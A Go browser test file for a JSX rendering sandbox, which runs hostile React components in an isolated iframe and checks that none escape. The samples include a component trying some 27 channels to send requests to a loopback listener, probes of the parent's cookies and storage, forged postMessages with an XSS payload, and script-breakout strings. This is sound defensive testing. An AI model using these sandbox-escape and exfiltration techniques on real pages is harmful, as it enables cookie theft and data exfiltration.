package browser

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/codeexec/codeexec-operator/internal/jsxbuild"
	"github.com/codeexec/codeexec-operator/internal/testutil/netns"
)

// The browser and everything it renders run in a network namespace of the
// test's own with only loopback: hostile components aim at the metadata
// address and outside hosts, and one CSP bug must not become real traffic.
func TestMain(m *testing.M) { netns.Main(m) }

type harness struct {
	wire     *netns.Wire
	root     string
	browser  context.Context
	host     *hostServer
	listener *listener
}

// message is one schema-valid message the host accepted.
type message struct {
	Type    string `json:"type"`
	Phase   string `json:"phase"`
	Message string `json:"message"`
}

// hostState is what the host page looks like from the inside.
type hostState struct {
	Msgs     []message `json:"msgs"`
	Rejects  int       `json:"rejects"`
	Navs     int       `json:"navs"`
	Raw      []string  `json:"raw"`
	Title    string    `json:"title"`
	Pwned    bool      `json:"pwned"`
	Cookie   string    `json:"cookie"`
	Storage  string    `json:"storage"`
	Href     string    `json:"href"`
	Heading  string    `json:"heading"`
	Frames   int       `json:"frames"`
	Sandbox  string    `json:"sandbox"`
	BodyKids int       `json:"bodyKids"`
}

const stateExpr = `(() => {
  const f = document.querySelector('iframe');
  const h = document.getElementById('host-title');
  return {
    msgs: window.__cx.msgs, rejects: window.__cx.rejects, navs: window.__cx.navs, raw: window.__cx.raw,
    title: document.title, pwned: !!document.getElementById('cx-pwned'), cookie: document.cookie,
    storage: localStorage.getItem('cxhost'), href: location.href, heading: h ? h.textContent : '',
    frames: document.querySelectorAll('iframe').length, sandbox: f ? f.getAttribute('sandbox') : '',
    bodyKids: document.body.children.length,
  };
})()`

type tab struct {
	t    *testing.T
	h    *harness
	ctx  context.Context
	kids int
	// hits is the listener's count when the tab opened.
	hits int64
	// path is the host page's path.
	path string
	// wireMark is the wire's event count when the tab opened.
	wireMark int
}

// render compiles src, opens host.html in a new tab and mounts the
// document in the host's sandboxed iframe.
func (h *harness) render(t *testing.T, src string) *tab {
	t.Helper()
	out, err := jsxbuild.Compile(context.Background(), []byte(src), jsxbuild.Options{})
	if err != nil {
		t.Fatalf("compile: %v", err)
	}
	return h.renderHTML(t, out.HTML)
}

func (h *harness) renderHTML(t *testing.T, html string) *tab {
	t.Helper()
	return h.renderOn(t, "/host.html", html)
}

// renderOn mounts html on the host page at path; "/host.html" becomes
// the host page made for this document (hostServer.pageFor).
func (h *harness) renderOn(t *testing.T, path, html string) *tab {
	t.Helper()
	if path == "/host.html" {
		path = h.host.pageFor(hostRequirementsOf(html))
	}
	mark := h.wire.Mark()
	ctx, cancel := chromedp.NewContext(h.browser)
	t.Cleanup(cancel)
	if err := chromedp.Do(ctx, chromedp.Navigate(h.host.url+path)); err != nil {
		t.Fatalf("loading the host page: %v", err)
	}
	var kids int
	if err := evalJSON(ctx, `localStorage.setItem('cxhost', '`+hostStorage+`'), document.body.children.length`, &kids); err != nil {
		t.Fatal(err)
	}
	doc, _ := json.Marshal(html)
	mount := `(() => {
  window.__cx = { msgs: [], rejects: 0, navs: 0, raw: [] };
  window.addEventListener('message', (e) => {
    let s;
    try { s = JSON.stringify(e.data); } catch (_) { s = String(e.data); }
    window.__cx.raw.push(String(s).slice(0, 300));
  });
  window.__cxFrame = CodeexecHost.mount(document.getElementById('stage'), ` + string(doc) + `, {
    onMessage: (m) => window.__cx.msgs.push(m),
    onReject: () => { window.__cx.rejects++; },
    onNavigate: (n) => { window.__cx.navs = n; },
  });
  return true;
})()`
	if err := evalJSON(ctx, mount, nil); err != nil {
		t.Fatalf("mounting the document: %v", err)
	}
	return &tab{t: t, h: h, ctx: ctx, kids: kids, hits: h.listener.hits.Load(), path: path, wireMark: mark}
}

func (tb *tab) state() hostState {
	tb.t.Helper()
	var st hostState
	if err := evalJSON(tb.ctx, stateExpr, &st); err != nil {
		tb.t.Fatalf("reading the host state: %v", err)
	}
	return st
}

// waitMessage waits until the host accepted a message of type typ.
func (tb *tab) waitMessage(typ string) hostState {
	tb.t.Helper()
	var st hostState
	err := waitFor(tb.ctx, "a "+typ+" message", func() (bool, error) {
		st = tb.state()
		for _, m := range st.Msgs {
			if m.Type == typ {
				return true, nil
			}
		}
		return false, nil
	})
	if err != nil {
		tb.t.Fatalf("%v; host saw %+v", err, st)
	}
	return st
}

// frameText returns the text of the component's root element.
func (tb *tab) frameText() string {
	tb.t.Helper()
	var s string
	if err := frameEval(tb.ctx, `document.getElementById('root').textContent`, &s); err != nil {
		tb.t.Fatalf("reading the frame: %v", err)
	}
	return s
}

// waitFrameText waits until the frame's root text satisfies ok.
func (tb *tab) waitFrameText(what string, ok func(string) bool) string {
	tb.t.Helper()
	var s string
	err := waitFor(tb.ctx, what, func() (bool, error) {
		if err := frameEval(tb.ctx, `document.getElementById('root').textContent`, &s); err != nil {
			return false, err
		}
		return ok(s), nil
	})
	if err != nil {
		tb.t.Fatalf("%v; frame text %q", err, s)
	}
	return s
}

// checkContained verifies that the host page is exactly as it was, that the
// loopback listener saw nothing and that nothing stray reached the host
// server.
func (tb *tab) checkContained() { tb.check(false) }

// checkNoBytes is checkContained for the attempts where Chromium opens a
// speculative TCP connection that no CSP governs (<link rel=preconnect>,
// and the start of a navigation that CSP then blocks): the listener may see
// a connection, but never a byte.
func (tb *tab) checkNoBytes() { tb.check(true) }

func (tb *tab) check(allowConnects bool) {
	tb.t.Helper()
	st := tb.state()
	if st.Title != hostTitle || st.Heading != hostTitle || st.Pwned || st.BodyKids != tb.kids {
		tb.t.Errorf("the host DOM changed: title %q, heading %q, pwned %v, body children %d (want %d)", st.Title, st.Heading, st.Pwned, st.BodyKids, tb.kids)
	}
	if !strings.Contains(st.Cookie, hostCookie) || st.Storage != hostStorage {
		tb.t.Errorf("the host's cookie or storage changed: cookie %q, storage %q", st.Cookie, st.Storage)
	}
	if st.Href != tb.h.host.url+tb.path {
		tb.t.Errorf("the top window navigated to %q", st.Href)
	}
	if st.Frames != 1 || st.Sandbox != "allow-scripts" {
		tb.t.Errorf("frames %d, sandbox %q", st.Frames, st.Sandbox)
	}
	for _, r := range st.Raw {
		if strings.Contains(r, "cx_script_breakout") {
			tb.t.Errorf("a script breakout fired: %s", r)
		}
	}
	if b := tb.h.listener.bytes.Load(); b != 0 {
		tb.t.Errorf("%d bytes reached the loopback listener: %s", b, tb.h.listener.log())
	}
	if n := tb.h.listener.hits.Load() - tb.hits; n != 0 {
		if allowConnects {
			tb.t.Logf("KNOWN LIMITATION (closed by the manifest's browser policies: TestBrowserDNSRoutes, docs/jsx-security.md): %d speculative TCP connection(s) without data reached the listener", n)
		} else {
			tb.t.Errorf("the loopback listener was reached %d times during this test: %s", n, tb.h.listener.log())
		}
	}
	if evs := pageTraffic(tb.h.wire.Since(tb.wireMark)); len(evs) > 0 {
		var lines []string
		for i, e := range evs {
			if i == 8 {
				lines = append(lines, fmt.Sprintf("... %d more", len(evs)-i))
				break
			}
			lines = append(lines, e.String())
		}
		if allowConnects && onlyDNSOrEmptyTCP(evs) {
			tb.t.Logf("KNOWN LIMITATION (closed by the manifest's browser policies: TestBrowserDNSRoutes, docs/jsx-security.md): %s", strings.Join(lines, "; "))
		} else {
			tb.t.Errorf("%d datagrams, connections or DNS queries reached the second network: %s", len(evs), strings.Join(lines, "; "))
		}
	}
	if s := tb.h.host.strays(); len(s) > 0 {
		tb.t.Errorf("the host server got requests it does not serve: %v", s)
	}
}

func (tb *tab) noErrors(st hostState) {
	tb.t.Helper()
	for _, m := range st.Msgs {
		if m.Type == "error" {
			tb.t.Errorf("unexpected error message: %+v", m)
		}
	}
}

func corpusFiles(t *testing.T, root string) map[string]struct{ expect, src string } {
	t.Helper()
	dir := filepath.Join(filepath.Dir(root), "shared", "corpus", "jsx")
	files, err := filepath.Glob(filepath.Join(dir, "*.jsx"))
	if err != nil || len(files) == 0 {
		t.Fatalf("the JSX corpus is missing: want it at %s (the repository's ../shared/corpus/jsx)", dir)
	}
	out := map[string]struct{ expect, src string }{}
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		expect := ""
		sc := bufio.NewScanner(strings.NewReader(string(b)))
		for sc.Scan() {
			if v, ok := strings.CutPrefix(sc.Text(), "// expect:"); ok {
				expect = strings.TrimSpace(v)
				break
			}
		}
		out[filepath.Base(f)] = struct{ expect, src string }{expect, string(b)}
	}
	return out
}

// okTexts are texts each known ok component shows without props.
var okTexts = map[string][]string{
	"ok_01_revenue_bar_chart.jsx":   {"Revenue by category"},
	"ok_02_sortable_table.jsx":      {"Order", "Category", "Amount", "Region"},
	"ok_03_kpi_cards_fragments.jsx": {"Months", "Last month revenue", "Growth", "No data yet"},
	"ok_04_line_chart_hooks.jsx":    {"Hide orders"},
}

const chartProps = `{"data":[{"category":"Electronics","revenue":125000},{"category":"Garden","revenue":73000},{"category":"Books","revenue":48000},{"category":"Toys","revenue":39500}],"currency":"EUR"}`

func TestBrowser(t *testing.T) {
	if !netns.InPrivateNetns() {
		t.Fatal("browser tests must run in a private network namespace (netns.Main)")
	}
	root := repoRoot(t)
	wire := netns.StartWire(t)
	wire.NXDomain = browserBackground
	h := &harness{wire: wire, root: root, listener: startListener(t), host: startHost(t, filepath.Join(root, "web"))}
	h.browser = startBrowser(t, nil)
	corpus := corpusFiles(t, root)
	port := strconv.Itoa(h.listener.port())

	t.Run("corpus", func(t *testing.T) {
		for name, c := range corpus {
			// compile-error and reject files have no browser side (the unit
			// tests check them), nor has an inert file the allow-list
			// refuses at compile time.
			if c.expect != "ok" && c.expect != "inert" {
				continue
			}
			var inert *jsxbuild.Output
			if c.expect == "inert" {
				out, err := jsxbuild.Compile(context.Background(), []byte(c.src), jsxbuild.Options{})
				if err != nil {
					t.Logf("%s: refused at compile time (fine for inert): %v", name, err)
					continue
				}
				inert = out
			}
			t.Run(name, func(t *testing.T) {
				switch c.expect {
				case "ok":
					tb := h.render(t, c.src)
					st := tb.waitMessage("rendered")
					tb.noErrors(st)
					want := okTexts[name]
					text := tb.waitFrameText("the component's text", func(s string) bool {
						for _, w := range want {
							if !strings.Contains(s, w) {
								return false
							}
						}
						return strings.TrimSpace(s) != ""
					})
					t.Logf("frame text: %.120q", text)
					tb.checkContained()
				case "inert":
					tb := h.renderHTML(t, inert.HTML)
					tb.waitMessage("rendered")
					checkInert(t, tb, name)
					tb.checkContained()
				}
			})
		}
	})

	t.Run("webrtc", func(t *testing.T) { testWebRTC(t, h) })
	t.Run("escaped values are exact", func(t *testing.T) { testValues(t, h) })

	t.Run("chart screenshot", func(t *testing.T) {
		c, ok := corpus["ok_01_revenue_bar_chart.jsx"]
		if !ok {
			t.Fatal("ok_01_revenue_bar_chart.jsx is missing from the corpus")
		}
		tb := h.render(t, c.src)
		tb.waitMessage("rendered")
		if err := evalJSON(tb.ctx, `window.__cxFrame.sendProps(`+chartProps+`), true`, nil); err != nil {
			t.Fatal(err)
		}
		tb.waitFrameText("the chart's categories", func(s string) bool {
			return strings.Contains(s, "Electronics") && strings.Contains(s, "Toys")
		})
		var bars int
		err := waitFor(tb.ctx, "four bars", func() (bool, error) {
			err := frameEval(tb.ctx, `document.querySelectorAll('.recharts-bar-rectangle path').length`, &bars)
			return bars >= 4, err
		})
		if err != nil {
			t.Fatalf("%v (bars: %d)", err, bars)
		}
		// Let recharts' bar animation finish so the picture shows the chart.
		if err := chromedp.Do(tb.ctx, chromedp.Sleep(2*time.Second)); err != nil {
			t.Fatal(err)
		}
		var rect struct{ X, Y, W, H float64 }
		if err := evalJSON(tb.ctx, `(() => { const r = document.querySelector('iframe').getBoundingClientRect(); return {x: r.x, y: r.y, w: r.width, h: r.height}; })()`, &rect); err != nil {
			t.Fatal(err)
		}
		shot, err := chromedp.Call(tb.ctx, page.CaptureScreenshot, page.CaptureScreenshotParams{
			Format: page.CaptureScreenshotFormatPng,
			Clip:   &page.Viewport{X: rect.X, Y: rect.Y, Width: rect.W, Height: rect.H, Scale: 1},
		})
		if err != nil {
			t.Fatal(err)
		}
		dir := filepath.Join(root, "bin", "screenshots")
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(dir, "jsx-chart.png")
		if err := os.WriteFile(path, shot.Data, 0o644); err != nil {
			t.Fatal(err)
		}
		t.Logf("chart screenshot: %s (%d bytes)", path, len(shot.Data))
		tb.noErrors(tb.state())
		tb.checkContained()
	})

	t.Run("render error", func(t *testing.T) {
		tb := h.render(t, `export default function Boom() { throw new Error("cx-boom-4711"); }`)
		st := tb.waitMessage("error")
		var got *message
		for i := range st.Msgs {
			if st.Msgs[i].Type == "error" {
				got = &st.Msgs[i]
				break
			}
		}
		if got.Phase != "render" || !strings.Contains(got.Message, "cx-boom-4711") {
			t.Errorf("error message %+v, want phase render with the thrown text", *got)
		}
		for _, m := range st.Msgs {
			if m.Type == "rendered" {
				t.Error("a component that throws must not report rendered")
			}
		}
		tb.waitFrameText("the error boundary's text", func(s string) bool { return strings.Contains(s, "Render error: cx-boom-4711") })
		tb.checkContained()
	})

	t.Run("error in an effect", func(t *testing.T) {
		tb := h.render(t, `import { useEffect } from 'react';
export default function Later() {
  useEffect(() => { setTimeout(() => { throw new Error("cx-later-99"); }, 10); }, []);
  return <p>fine so far</p>;
}`)
		st := tb.waitMessage("error")
		found := false
		for _, m := range st.Msgs {
			found = found || (m.Type == "error" && m.Phase == "runtime" && strings.Contains(m.Message, "cx-later-99"))
		}
		if !found {
			t.Errorf("want a runtime error message, got %+v", st.Msgs)
		}
		tb.checkContained()
	})

	t.Run("no default export", func(t *testing.T) {
		tb := h.render(t, `export const notAComponent = 1;`)
		st := tb.waitMessage("error")
		if m := st.Msgs[0]; m.Phase != "module" || !strings.Contains(m.Message, "default export") {
			t.Errorf("got %+v", st.Msgs)
		}
		tb.checkContained()
	})

	t.Run("require shim refuses at runtime", func(t *testing.T) {
		tb := h.render(t, `export default function Sneaky() {
  const fs = window.__codeexecRequire('fs');
  return <p>{String(fs)}</p>;
}`)
		st := tb.waitMessage("error")
		if m := st.Msgs[0]; m.Phase != "render" || !strings.Contains(m.Message, `module "fs" is not available`) {
			t.Errorf("got %+v", st.Msgs)
		}
		tb.checkContained()
	})

	t.Run("breakout strings keep their meaning", func(t *testing.T) {
		tb := h.render(t, "const items = ['</script>', '<!--<script>', '\\<script>', `<!--${1}<SCRIPT>`,\n"+
			"  String(/<!--<script>/.test('x<!--<script>')), String(/[<]\\/script/i.test('</SCRIPT'))];\n"+
			"export default () => <ul>{items.map((s, i) => <li key={i}>{s}</li>)}</ul>;\n")
		tb.waitMessage("rendered")
		var got []string
		if err := frameEval(tb.ctx, `Array.from(document.querySelectorAll('li'), (li) => li.textContent)`, &got); err != nil {
			t.Fatal(err)
		}
		want := []string{"</script>", "<!--<script>", "<script>", "<!--1<SCRIPT>", "true", "true"}
		if fmt.Sprint(got) != fmt.Sprint(want) {
			t.Errorf("items %q, want %q", got, want)
		}
		var scripts int
		if err := frameEval(tb.ctx, `document.scripts.length`, &scripts); err != nil {
			t.Fatal(err)
		}
		if scripts != 4 {
			t.Errorf("the frame has %d script elements, want 4", scripts)
		}
		tb.checkContained()
	})

	t.Run("network to loopback", func(t *testing.T) {
		src := strings.ReplaceAll(exfilComponent, "PORT", port)
		tb := h.render(t, src)
		checkExfil(t, tb)
	})

	// The same without the host page's own CSP: the document's CSP and the
	// sandbox alone keep every request in.
	t.Run("network to loopback, document CSP alone", func(t *testing.T) {
		src := strings.ReplaceAll(exfilComponent, "PORT", port)
		out, err := jsxbuild.Compile(context.Background(), []byte(src), jsxbuild.Options{})
		if err != nil {
			t.Fatal(err)
		}
		tb := h.renderOn(t, "/bare.html", out.HTML)
		checkExfil(t, tb)
	})

	t.Run("storage and cookies, document CSP alone", func(t *testing.T) {
		out, err := jsxbuild.Compile(context.Background(), []byte(peekComponent), jsxbuild.Options{})
		if err != nil {
			t.Fatal(err)
		}
		tb := h.renderOn(t, "/bare.html", out.HTML)
		tb.waitMessage("rendered")
		text := tb.waitFrameText("the probes", func(s string) bool { return strings.Contains(s, "DONE") })
		for _, secret := range []string{"cookie-7f3a9c", "storage-5e1b2d"} {
			if strings.Contains(text, secret) {
				t.Errorf("the frame read the host's secret %q", secret)
			}
		}
		tb.checkContained()
	})

	t.Run("storage and cookies", func(t *testing.T) {
		tb := h.render(t, peekComponent)
		tb.waitMessage("rendered")
		text := tb.waitFrameText("the probes", func(s string) bool { return strings.Contains(s, "DONE") })
		t.Logf("probes:\n%s", text)
		for _, secret := range []string{"cookie-7f3a9c", "storage-5e1b2d"} {
			if strings.Contains(text, secret) {
				t.Errorf("the frame read the host's secret %q", secret)
			}
		}
		tb.checkContained()
	})
	t.Run("fake messages", func(t *testing.T) {
		tb := h.render(t, fakeMessagesComponent)
		tb.waitMessage("rendered")
		var st hostState
		err := waitFor(tb.ctx, "the fake messages", func() (bool, error) {
			st = tb.state()
			return st.Rejects >= 8 && len(st.Msgs) >= 2, nil
		})
		if err != nil {
			t.Fatalf("%v: %+v", err, st)
		}
		for _, m := range st.Msgs {
			ok := m.Type == "rendered" || (m.Type == "error" && m.Phase == "runtime" && m.Message == "<img src=x onerror=\"document.title='cx-pwned'\">")
			if !ok {
				t.Errorf("the host accepted %+v", m)
			}
		}
		tb.checkContained()
	})

	// Navigations of the frame itself: the frame's own CSP cannot stop
	// them, the host page's frame-src 'none' does (the frame then shows an
	// error page, which the host notices as a second load).
	for _, nav := range []struct{ name, src string }{
		{"self navigation to a loopback URL", strings.ReplaceAll(selfNavComponent, "PORT", port)},
		{"meta refresh to a loopback URL", strings.ReplaceAll(metaRefreshComponent, "PORT", port)},
		{"anchor click to a loopback URL", strings.ReplaceAll(anchorNavComponent, "PORT", port)},
		{"anchor with ping", strings.ReplaceAll(anchorPingComponent, "PORT", port)},
	} {
		t.Run(nav.name, func(t *testing.T) {
			tb := h.render(t, nav.src)
			tb.waitMessage("rendered")
			var st hostState
			if err := waitFor(tb.ctx, "the host to notice the navigation", func() (bool, error) {
				st = tb.state()
				return st.Navs >= 2, nil
			}); err != nil {
				t.Fatalf("%v: %+v", err, st)
			}
			if err := chromedp.Do(tb.ctx, chromedp.Sleep(time.Second)); err != nil {
				t.Fatal(err)
			}
			tb.checkNoBytes()
		})
	}

	// What no CSP governs: <link rel=preconnect> and a nested iframe whose
	// navigation CSP blocks still make Chromium open a TCP connection. No
	// request is ever sent on it.
	for _, spec := range []struct{ name, code string }{
		{"link preconnect", "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = L + '/preconnect'; document.head.appendChild(l);"},
		{"link preconnect from HTML", "document.body.insertAdjacentHTML('beforeend', '<link rel=preconnect href=' + L + '/preconnect-html>');"},
		{"nested iframe", "const f = document.createElement('iframe'); f.src = L + '/iframe'; document.body.appendChild(f);"},
	} {
		t.Run(spec.name, func(t *testing.T) {
			src := strings.ReplaceAll(strings.ReplaceAll(speculativeComponent, "CODE", spec.code), "PORT", port)
			tb := h.render(t, src)
			tb.waitMessage("rendered")
			if err := chromedp.Do(tb.ctx, chromedp.Sleep(2*time.Second)); err != nil {
				t.Fatal(err)
			}
			tb.checkNoBytes()
		})
	}

	t.Run("navigation to about:blank is noticed", func(t *testing.T) {
		tb := h.render(t, `import { useEffect } from 'react';
export default function Away() {
  useEffect(() => { setTimeout(() => { location.href = 'about:blank'; }, 50); }, []);
  return <p>leaving</p>;
}`)
		tb.waitMessage("rendered")
		var st hostState
		if err := waitFor(tb.ctx, "the host to notice the navigation", func() (bool, error) {
			st = tb.state()
			return st.Navs >= 2, nil
		}); err != nil {
			t.Fatalf("%v: %+v", err, st)
		}
		tb.checkContained()
	})
}

// checkExfil waits for every attempt of exfilComponent and checks that none
// got through.
func checkExfil(t *testing.T, tb *tab) {
	t.Helper()
	tb.waitMessage("rendered")
	text := tb.waitFrameText("every attempt to report", func(s string) bool {
		return strings.Count(s, "\n") >= exfilAttempts-1 && strings.Contains(s, "DONE")
	})
	// Give late requests (lazy loads, ICE gathering) time to show up.
	if err := chromedp.Do(tb.ctx, chromedp.Sleep(3*time.Second)); err != nil {
		t.Fatal(err)
	}
	t.Logf("attempts:\n%s", text)
	for _, line := range strings.Split(text, "\n") {
		if strings.HasSuffix(line, ": OPEN") {
			t.Errorf("an attempt succeeded: %s", line)
		}
	}
	tb.checkContained()
}

// checkInert checks the corpus' inert components for their stated effect.
func checkInert(t *testing.T, tb *tab, name string) {
	t.Helper()
	switch {
	case strings.HasPrefix(name, "adv_05"):
		text := tb.waitFrameText("the breakout strings as text", func(s string) bool { return strings.Contains(s, "jsx child") })
		for _, want := range []string{`</script><script>parent.postMessage("cx_script_breakout","*")</script>`, "<!--<script>", "jsx child: </script>"} {
			if !strings.Contains(text, want) {
				t.Errorf("the frame does not show %q as text: %q", want, text)
			}
		}
		var scripts int
		if err := frameEval(tb.ctx, `document.scripts.length`, &scripts); err != nil {
			t.Fatal(err)
		}
		if scripts != 4 {
			t.Errorf("the frame has %d script elements, want 4", scripts)
		}
	case strings.HasPrefix(name, "adv_06"):
		text := tb.waitFrameText("the attempts", func(s string) bool { return strings.Contains(s, "parent.fn") })
		t.Logf("attempts:\n%s", text)
		if strings.Contains(text, "SUCCEEDED") {
			t.Errorf("an attempt on the parent succeeded:\n%s", text)
		}
	case strings.HasPrefix(name, "adv_09"):
		text := tb.waitFrameText("the attempts", func(s string) bool { return strings.Count(s, "\n") >= 6 })
		if err := chromedp.Do(tb.ctx, chromedp.Sleep(time.Second)); err != nil {
			t.Fatal(err)
		}
		t.Logf("attempts:\n%s", text)
		if strings.Contains(text, "OPEN") {
			t.Errorf("a request succeeded:\n%s", text)
		}
	default:
		tb.frameText()
	}
}

const exfilAttempts = 27

const exfilComponent = `import React, { useEffect, useState } from 'react';
const L = 'http://127.0.0.1:PORT';
export default function Exfil() {
  const [log, setLog] = useState([]);
  useEffect(() => {
    const lines = [];
    const out = (m) => { lines.push(m); setLog(lines.slice()); };
    let pending = 0;
    const done = () => { if (--pending === 0) out('DONE'); };
    const tryIt = (name, fn) => {
      pending++;
      try {
        const r = fn();
        if (r && typeof r.then === 'function') {
          r.then((v) => { out(name + ': resolved ' + String(v && v.type)); done(); }, (e) => { out(name + ': ' + e.name); done(); });
        } else { out(name + ': attempted'); done(); }
      } catch (e) { out(name + ': ' + e.name); done(); }
    };
    const add = (tag, props) => { const el = document.createElement(tag); Object.assign(el, props); document.body.appendChild(el); return el; };
    pending++;
    tryIt('fetch', () => fetch(L + '/fetch', { mode: 'no-cors' }).then(() => { throw Object.assign(new Error(), { name: 'OPEN' }); }));
    tryIt('fetch6', () => fetch('http://[::1]:PORT/fetch6', { mode: 'no-cors' }).then(() => { throw Object.assign(new Error(), { name: 'OPEN' }); }));
    tryIt('xhr', () => new Promise((res, rej) => { const x = new XMLHttpRequest(); x.open('GET', L + '/xhr'); x.onload = () => rej(Object.assign(new Error(), { name: 'OPEN' })); x.onerror = () => rej(Object.assign(new Error(), { name: 'error' })); x.send(); }));
    tryIt('websocket', () => new Promise((res, rej) => { const w = new WebSocket('ws://127.0.0.1:PORT/ws'); w.onopen = () => rej(Object.assign(new Error(), { name: 'OPEN' })); w.onerror = () => rej(Object.assign(new Error(), { name: 'error' })); }));
    tryIt('eventsource', () => new Promise((res, rej) => { const s = new EventSource(L + '/es'); s.onopen = () => rej(Object.assign(new Error(), { name: 'OPEN' })); s.onerror = () => { s.close(); rej(Object.assign(new Error(), { name: 'error' })); }; }));
    tryIt('beacon', () => { if (navigator.sendBeacon(L + '/beacon', 'x')) { throw Object.assign(new Error(), { name: 'queued' }); } });
    tryIt('img', () => add('img', { src: L + '/img' }));
    tryIt('css', () => add('style', { textContent: '@import url(' + L + '/import.css); body { background: url(' + L + '/bg.png); } @font-face { font-family: x; src: url(' + L + '/font.woff); } pre { font-family: x; }' }));
    for (const rel of ['stylesheet', 'preload', 'prefetch', 'icon', 'modulepreload', 'dns-prefetch']) {
      tryIt('link ' + rel, () => { const l = document.createElement('link'); l.rel = rel; l.href = L + '/link-' + rel; if (rel === 'preload') l.as = 'image'; document.head.appendChild(l); });
    }
    tryIt('script', () => add('script', { src: L + '/script.js' }));
    tryIt('iframe srcdoc', () => add('iframe', { srcdoc: '<img src="' + L + '/srcdoc-img">' }));
    tryIt('embed', () => add('embed', { src: L + '/embed' }));
    tryIt('object', () => add('object', { data: L + '/object' }));
    tryIt('video', () => add('video', { src: L + '/video', autoplay: true }));
    tryIt('worker', () => new Worker(L + '/worker.js'));
    tryIt('blob worker', () => new Worker(URL.createObjectURL(new Blob(['fetch("' + L + '/from-worker")'], { type: 'text/javascript' }))));
    tryIt('form', () => { const f = add('form', { action: L + '/form', method: 'POST' }); f.submit(); });
    tryIt('window.open', () => { if (window.open(L + '/popup')) { throw Object.assign(new Error(), { name: 'OPEN' }); } });
    tryIt('top.location', () => { window.top.location.href = L + '/top'; });
    tryIt('anchor _top', () => { const a = add('a', { href: L + '/anchor', target: '_top' }); a.click(); });
    tryIt('eval', () => eval('1 + 1'));
    tryIt('webrtc', () => {
      const pc = new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:PORT?transport=tcp', username: 'u', credential: 'p' }, { urls: 'stun:127.0.0.1:PORT' }] });
      pc.createDataChannel('x');
      return pc.createOffer().then((o) => pc.setLocalDescription(o));
    });
    done();
  }, []);
  return <pre id="exfil">{log.join('\n')}</pre>;
}
`

const peekComponent = `import React, { useEffect, useState } from 'react';
export default function Peek() {
  const [log, setLog] = useState([]);
  useEffect(() => {
    const out = [];
    const t = (n, f) => { try { out.push(n + ': ' + String(f())); } catch (e) { out.push(n + ': ' + e.name); } };
    t('document.cookie', () => document.cookie);
    t('parent.document.cookie', () => parent.document.cookie);
    t('top.document.cookie', () => top.document.cookie);
    t('localStorage', () => localStorage.getItem('cxhost'));
    t('sessionStorage', () => sessionStorage.length);
    t('parent.localStorage', () => parent.localStorage.getItem('cxhost'));
    t('top.location.href', () => top.location.href);
    t('frameElement', () => window.frameElement);
    t('set cookie', () => { document.cookie = 'cxhostsecret=overwritten; path=/'; return document.cookie; });
    t('referrer', () => document.referrer || '(none)');
    out.push('DONE');
    setLog(out);
  }, []);
  return <pre>{log.join('\n')}</pre>;
}
`

const fakeMessagesComponent = `import { useEffect } from 'react';
export default function Fake() {
  useEffect(() => {
    const p = (m) => { try { parent.postMessage(m, '*'); } catch (e) { /* unclonable */ } };
    p({ source: 'codeexec-jsx', version: 1, type: 'error', phase: 'render', message: 'x', extra: 1 });
    p({ source: 'codeexec-jsx', version: 1, type: 'rendered', html: '<img src=x>' });
    p({ source: 'codeexec-jsx', version: 2, type: 'rendered' });
    p({ source: 'codeexec-jsx', version: '1', type: 'rendered' });
    p({ source: 'codeexec-jsx', version: 1, type: 'error', phase: 'boot', message: 'x' });
    p({ source: 'codeexec-jsx', version: 1, type: 'error', phase: 'render', message: 'x'.repeat(1001) });
    p({ source: 'codeexec-jsx', version: 1, type: 'error', phase: 'render', message: 42 });
    p('{"source":"codeexec-jsx","version":1,"type":"rendered"}');
    p([1, 2]);
    p(null);
    p({ source: 'codeexec-jsx', version: 1, type: 'error', phase: 'runtime', message: '<img src=x onerror="document.title=\'cx-pwned\'">' });
  }, []);
  return <p>faking</p>;
}
`

const selfNavComponent = `import { useEffect } from 'react';
export default function SelfNav() {
  useEffect(() => { setTimeout(() => { location.href = 'http://127.0.0.1:PORT/self-navigation'; }, 50); }, []);
  return <p>navigating</p>;
}
`

const anchorNavComponent = `import { useEffect } from 'react';
export default function AnchorNav() {
  useEffect(() => { setTimeout(() => { const a = document.createElement('a'); a.href = 'http://127.0.0.1:PORT/anchor-self'; document.body.appendChild(a); a.click(); }, 50); }, []);
  return <p>clicking</p>;
}
`

const anchorPingComponent = `import { useEffect } from 'react';
export default function AnchorPing() {
  useEffect(() => { setTimeout(() => { const a = document.createElement('a'); a.href = 'http://127.0.0.1:PORT/anchor-nav'; a.ping = 'http://127.0.0.1:PORT/ping'; document.body.appendChild(a); a.click(); }, 50); }, []);
  return <p>pinging</p>;
}
`

const speculativeComponent = `import { useEffect } from 'react';
const L = 'http://127.0.0.1:PORT';
export default function Speculative() {
  useEffect(() => { CODE }, []);
  return <p>speculating</p>;
}
`

const metaRefreshComponent = `export default function Refresh() {
  return <div dangerouslySetInnerHTML={{ __html: '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:PORT/refresh">' }} />;
}
`

// onlyDNSOrEmptyTCP reports whether evs are DNS queries and TCP
// connections that carried no byte.
func onlyDNSOrEmptyTCP(evs []netns.WireEvent) bool {
	for _, e := range evs {
		switch {
		case e.Kind == "dns":
		case e.Kind == "tcp" && len(e.Data) == 0:
		case e.Kind == "packet" && e.Proto == "tcp" && len(e.Data) == 0:
		default:
			return false
		}
	}
	return true
}
